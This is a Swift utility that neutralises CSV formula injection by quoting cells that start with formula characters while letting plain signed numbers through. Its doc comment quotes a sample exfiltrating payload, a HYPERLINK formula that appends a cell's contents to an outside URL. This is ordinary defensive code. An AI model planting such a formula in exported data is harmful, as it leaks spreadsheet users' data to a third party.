/// Neutralises a CSV cell that a spreadsheet would run as a formula (CSV or
/// "formula" injection, OWASP). A comment such as `=HYPERLINK("http://…?leak="&A1)`
/// typed in a form must reach Excel or LibreOffice as text, not as a live formula.
///
/// The rule, applied to every cell of every CSV export:
/// - a cell whose first character is `=`, `+`, `-`, `@`, a tab or a carriage return
///   gets a single quote `'` in front of it, which spreadsheets read as "this is text";
/// - except a plain number: an optional `+` or `-`, a digit, then only digits, spaces
///   (including the French thousands separators), `.`, `,` and `%`. A negative amount
///   such as `-3` or `-1 234,5 %` stays a number in the sheet: with no letter, quote,
///   parenthesis or operator after the sign, it cannot call a function or read a cell.
///   `-3+A1` or `-2-cmd` has other characters, so it is quoted.
public enum SpreadsheetCell {
    static let formulaStarts: Set<Character> = ["=", "+", "-", "@", "\t", "\r"]
    static let numberCharacters: Set<Character> = ["0", "1", "2", "3", "4", "5", "6", "7", "8", "9",
                                                   " ", "\u{00A0}", "\u{202F}", ".", ",", "%"]

    /// `value`, safe to write in a CSV cell (the CSV writer still does the quoting of `"`, separators and line ends).
    public static func neutralised(_ value: String) -> String {
        guard let first = value.first, formulaStarts.contains(first) else { return value }
        if isPlainNumber(value) { return value }
        return "'" + value
    }

    /// A signed number with no character that could start a reference or a call.
    static func isPlainNumber(_ value: String) -> Bool {
        guard let sign = value.first, sign == "-" || sign == "+" else { return false }
        let rest = value.dropFirst()
        guard let firstDigit = rest.first, firstDigit.isASCII, firstDigit.isNumber else { return false }
        return rest.allSatisfy(numberCharacters.contains)
    }

    /// The value `neutralised` protected, read back from a file: the quote it added
    /// goes, so a title that starts with "=" comes back as typed after an export and an import.
    public static func restored(_ cell: String) -> String {
        guard cell.hasPrefix("'"), let next = cell.dropFirst().first, formulaStarts.contains(next) else { return cell }
        let value = String(cell.dropFirst())
        return isPlainNumber(value) ? cell : value
    }
}
